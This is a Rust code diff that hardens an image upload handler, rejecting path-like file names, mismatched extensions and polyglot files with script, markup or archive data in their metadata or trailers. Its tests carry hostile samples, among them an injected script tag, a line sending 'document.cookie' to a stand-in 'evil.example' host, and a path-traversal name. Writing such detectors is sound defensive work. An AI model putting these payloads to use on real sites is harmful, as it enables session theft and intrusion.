@@ -91,6 +91,17 @@ pub enum UploadError {
     TooManyPixels,
     #[error("image could not be read")]
     Broken,
+    /// Something besides the image: script or markup in its metadata, or another file
+    /// appended after the image's end (a polyglot, e.g. a GIF that is also JavaScript, a PNG
+    /// with a ZIP or HTML page behind it).
+    #[error("file hides other content")]
+    HiddenContent,
+    /// The file name's extension does not match the sniffed type, or is not an image's.
+    #[error("extension does not match the content")]
+    WrongExtension,
+    /// A name with path separators, `..`, or control characters.
+    #[error("unusable file name")]
+    BadName,
     #[error(transparent)]
     Internal(#[from] anyhow::Error),
 }
@@ -103,6 +114,9 @@ impl UploadError {
             UploadError::NotImage => "upload-not-image",
             UploadError::TooManyPixels => "upload-too-many-pixels",
             UploadError::Broken => "upload-broken",
+            UploadError::HiddenContent => "upload-hidden-content",
+            UploadError::WrongExtension => "upload-wrong-extension",
+            UploadError::BadName => "upload-bad-name",
             UploadError::Internal(_) => "upload-failed",
         }
     }
@@ -146,6 +160,9 @@ fn encode_variants(bytes: &[u8]) -> Result<Encoded, UploadError> {
         "image/gif" => image::ImageFormat::Gif,
         _ => return Err(UploadError::NotImage),
     };
+    if hides_content(bytes, format) {
+        return Err(UploadError::HiddenContent);
+    }
     // The header alone tells the dimensions; refuse decompression bombs before decoding.
     let (w, h) = image::ImageReader::with_format(Cursor::new(bytes), format)
         .into_dimensions()
@@ -192,6 +209,239 @@ fn encode_variants(bytes: &[u8]) -> Result<Encoded, UploadError> {
     })
 }
 
+/// Refuses path-like names, and an extension that does not match the sniffed image type
+/// (a file without an extension is fine: the type comes from the bytes).
+fn check_name(name: &str, bytes: &[u8]) -> Result<(), UploadError> {
+    if name.contains(['/', '\\'])
+        || name.contains("..")
+        || name.chars().any(|c| c.is_control())
+        || name.starts_with('.')
+    {
+        return Err(UploadError::BadName);
+    }
+    let Some((_, ext)) = name.rsplit_once('.') else {
+        return Ok(());
+    };
+    let sniffed = infer::get(bytes)
+        .map(|k| k.mime_type())
+        .filter(|m| matches!(*m, "image/png" | "image/jpeg" | "image/webp" | "image/gif"))
+        .ok_or(UploadError::NotImage)?;
+    let expected = match ext.to_ascii_lowercase().as_str() {
+        "png" => "image/png",
+        "jpg" | "jpeg" | "jpe" | "jfif" => "image/jpeg",
+        "webp" => "image/webp",
+        "gif" => "image/gif",
+        _ => return Err(UploadError::WrongExtension),
+    };
+    if sniffed != expected {
+        return Err(UploadError::WrongExtension);
+    }
+    Ok(())
+}
+
+/// Markers of active content or of another file format. Compared without case.
+const MARKERS: [&[u8]; 17] = [
+    b"<script",
+    b"<html",
+    b"<svg",
+    b"<iframe",
+    b"<body",
+    b"<object",
+    b"<embed",
+    b"<!doctype",
+    b"<?php",
+    b"alert(",
+    b"eval(",
+    b"document.",
+    b"window.",
+    b"javascript:",
+    b"pk\x03\x04",
+    b"%pdf-",
+    b"<img",
+];
+
+fn has_marker(data: &[u8]) -> bool {
+    let lower: Vec<u8> = data.iter().map(|b| b.to_ascii_lowercase()).collect();
+    MARKERS
+        .iter()
+        .any(|m| lower.windows(m.len()).any(|w| w == *m))
+}
+
+/// True when the file carries more than its image: data after the image's end, or markup,
+/// script or another file's signature in its metadata (PNG text chunks, JPEG comments and
+/// APP segments, GIF comments and extensions, WebP metadata chunks). Pixel data is not
+/// scanned, so random compressed bytes cannot trip it. The image is re-encoded anyway; this
+/// refuses polyglots outright so no such file is ever kept or passed on.
+fn hides_content(bytes: &[u8], format: image::ImageFormat) -> bool {
+    let (end, meta) = match format {
+        image::ImageFormat::Png => png_parts(bytes),
+        image::ImageFormat::Jpeg => jpeg_parts(bytes),
+        image::ImageFormat::Gif => gif_parts(bytes),
+        image::ImageFormat::WebP => webp_parts(bytes),
+        _ => (None, Vec::new()),
+    };
+    // A structure we cannot walk to its end is left to the decoder, which refuses it when
+    // it is really broken; then only the metadata found so far is checked.
+    if let Some(end) = end {
+        let trailer = &bytes[end.min(bytes.len())..];
+        let padding = trailer
+            .iter()
+            .all(|b| matches!(b, 0 | b'\n' | b'\r' | b' '));
+        if !padding {
+            if format != image::ImageFormat::Jpeg || has_marker(trailer) {
+                return true;
+            }
+            // Phones append binary data to JPEGs (motion photos, maker data); text behind
+            // the image is script or markup.
+            let printable = trailer
+                .iter()
+                .filter(|b| b.is_ascii_graphic() || b.is_ascii_whitespace())
+                .count();
+            if trailer.len() >= 8 && printable * 10 >= trailer.len() * 9 {
+                return true;
+            }
+        }
+    }
+    meta.iter().any(|m| has_marker(m))
+}
+
+type Parts<'a> = (Option<usize>, Vec<&'a [u8]>);
+
+fn png_parts(b: &[u8]) -> Parts<'_> {
+    let mut meta = Vec::new();
+    let mut i = 8;
+    while i + 12 <= b.len() {
+        let len = u32::from_be_bytes([b[i], b[i + 1], b[i + 2], b[i + 3]]) as usize;
+        let kind = &b[i + 4..i + 8];
+        let data_end = match (i + 8).checked_add(len) {
+            Some(e) if e + 4 <= b.len() => e,
+            _ => return (None, meta),
+        };
+        if kind != b"IDAT" {
+            meta.push(&b[i + 8..data_end]);
+        }
+        i = data_end + 4;
+        if kind == b"IEND" {
+            return (Some(i), meta);
+        }
+    }
+    (None, meta)
+}
+
+fn jpeg_parts(b: &[u8]) -> Parts<'_> {
+    let mut meta = Vec::new();
+    let mut i = 2;
+    while i + 4 <= b.len() {
+        if b[i] != 0xFF {
+            return (None, meta);
+        }
+        let m = b[i + 1];
+        if m == 0xFF {
+            i += 1;
+            continue;
+        }
+        if m == 0xD9 {
+            return (Some(i + 2), meta);
+        }
+        if (0xD0..=0xD7).contains(&m) || m == 0x01 {
+            i += 2;
+            continue;
+        }
+        let len = usize::from(u16::from_be_bytes([b[i + 2], b[i + 3]]));
+        let seg_end = (i + 2 + len).min(b.len());
+        if (0xE0..=0xEF).contains(&m) || m == 0xFE {
+            meta.push(&b[(i + 4).min(seg_end)..seg_end]);
+        }
+        i = seg_end;
+        if m == 0xDA {
+            // Entropy-coded data: a marker is 0xFF followed by neither 0x00 nor a restart.
+            while i + 1 < b.len() {
+                if b[i] == 0xFF && b[i + 1] != 0x00 && !(0xD0..=0xD7).contains(&b[i + 1]) {
+                    break;
+                }
+                i += 1;
+            }
+        }
+    }
+    (None, meta)
+}
+
+fn gif_parts(b: &[u8]) -> Parts<'_> {
+    let mut meta = Vec::new();
+    if b.len() < 13 {
+        return (None, meta);
+    }
+    let table = |flags: u8| {
+        if flags & 0x80 != 0 {
+            3usize << ((flags & 7) + 1)
+        } else {
+            0
+        }
+    };
+    let mut i = 13 + table(b[10]);
+    // Sub-blocks: length byte, data, until a zero length. Returns the end and the data.
+    let blocks = |mut i: usize| -> Option<(usize, Vec<std::ops::Range<usize>>)> {
+        let mut out = Vec::new();
+        loop {
+            let n = usize::from(*b.get(i)?);
+            if n == 0 {
+                return Some((i + 1, out));
+            }
+            if i + 1 + n > b.len() {
+                return None;
+            }
+            out.push(i + 1..i + 1 + n);
+            i += 1 + n;
+        }
+    };
+    while i < b.len() {
+        match b[i] {
+            0x3B => return (Some(i + 1), meta),
+            0x21 => {
+                let Some((end, ranges)) = blocks(i + 2) else {
+                    return (None, meta);
+                };
+                for r in ranges {
+                    meta.push(&b[r]);
+                }
+                i = end;
+            }
+            0x2C => {
+                if i + 10 > b.len() {
+                    return (None, meta);
+                }
+                let j = i + 10 + table(b[i + 9]) + 1;
+                let Some((end, _)) = blocks(j) else {
+                    return (None, meta);
+                };
+                i = end;
+            }
+            _ => return (None, meta),
+        }
+    }
+    (None, meta)
+}
+
+fn webp_parts(b: &[u8]) -> Parts<'_> {
+    let mut meta = Vec::new();
+    if b.len() < 12 {
+        return (None, meta);
+    }
+    let riff = u32::from_le_bytes([b[4], b[5], b[6], b[7]]) as usize;
+    let end = 8usize.saturating_add(riff);
+    let mut i = 12;
+    while i + 8 <= end.min(b.len()) {
+        let kind = &b[i..i + 4];
+        let len = u32::from_le_bytes([b[i + 4], b[i + 5], b[i + 6], b[i + 7]]) as usize;
+        let data_end = (i + 8).saturating_add(len).min(b.len());
+        if !matches!(kind, b"VP8 " | b"VP8L" | b"ANMF" | b"ALPH") {
+            meta.push(&b[i + 8..data_end]);
+        }
+        i = data_end + (len & 1);
+    }
+    (Some(end), meta)
+}
+
 fn random_hex() -> Result<String, UploadError> {
     let mut buf = [0u8; 16];
     rand::rngs::OsRng
@@ -212,6 +462,7 @@ pub async fn store_image(
     if bytes.len() > MAX_BYTES {
         return Err(UploadError::TooLarge);
     }
+    check_name(original_name, &bytes)?;
     let enc = tokio::task::spawn_blocking(move || encode_variants(&bytes))
         .await
         .map_err(|e| UploadError::Internal(anyhow::anyhow!("image task: {e}")))??;
@@ -323,5 +574,65 @@ mod tests {
             Some("image/jpeg")
         );
         assert_eq!(small_key("ab.jpg"), "ab-400.jpg");
+    }
+
+    fn jpeg() -> Vec<u8> {
+        let img = image::RgbImage::from_pixel(64, 48, image::Rgb([90, 20, 30]));
+        let mut out = Vec::new();
+        image::DynamicImage::ImageRgb8(img)
+            .write_to(&mut Cursor::new(&mut out), image::ImageFormat::Jpeg)
+            .unwrap();
+        out
+    }
+
+    #[test]
+    fn polyglots_are_refused_and_clean_files_pass() {
+        let clean = jpeg();
+        assert!(!hides_content(&clean, image::ImageFormat::Jpeg));
+        // A phone's binary trailer (motion photo, maker data) is not text: allowed.
+        let mut phone = clean.clone();
+        phone.extend((0..4096u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8));
+        assert!(!hides_content(&phone, image::ImageFormat::Jpeg));
+        let mut html = clean.clone();
+        html.extend_from_slice(b"<html><script>alert(1)</script>");
+        assert!(hides_content(&html, image::ImageFormat::Jpeg));
+        let mut text = clean;
+        text.extend_from_slice(b";fetch('//evil.example/'+document.cookie)");
+        assert!(hides_content(&text, image::ImageFormat::Jpeg));
+        let img = image::RgbImage::from_pixel(3, 3, image::Rgb([1, 2, 3]));
+        let mut png = Vec::new();
+        image::DynamicImage::ImageRgb8(img)
+            .write_to(&mut Cursor::new(&mut png), image::ImageFormat::Png)
+            .unwrap();
+        assert!(!hides_content(&png, image::ImageFormat::Png));
+        png.extend_from_slice(b"PK\x03\x04rest-of-a-zip");
+        assert!(hides_content(&png, image::ImageFormat::Png));
+    }
+
+    #[test]
+    fn names_and_extensions() {
+        let j = jpeg();
+        assert!(check_name("foto.JPG", &j).is_ok());
+        assert!(check_name("foto", &j).is_ok());
+        assert!(matches!(
+            check_name("foto.png", &j),
+            Err(UploadError::WrongExtension)
+        ));
+        assert!(matches!(
+            check_name("foto.jpg.html", &j),
+            Err(UploadError::WrongExtension)
+        ));
+        assert!(matches!(
+            check_name("../foto.jpg", &j),
+            Err(UploadError::BadName)
+        ));
+        assert!(matches!(
+            check_name("a\\b.jpg", &j),
+            Err(UploadError::BadName)
+        ));
+        assert!(matches!(
+            check_name("foto.svg", b"<svg onload=x>"),
+            Err(UploadError::NotImage)
+        ));
     }
 }
